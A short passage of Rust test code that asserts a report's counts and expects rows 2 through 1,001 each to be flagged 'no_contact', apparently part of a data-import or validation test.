    assert_counts(&report, 1_000, 0, &(2..1_002).map(|row| (row, "no_contact")).collect::<Vec<_>>());
}
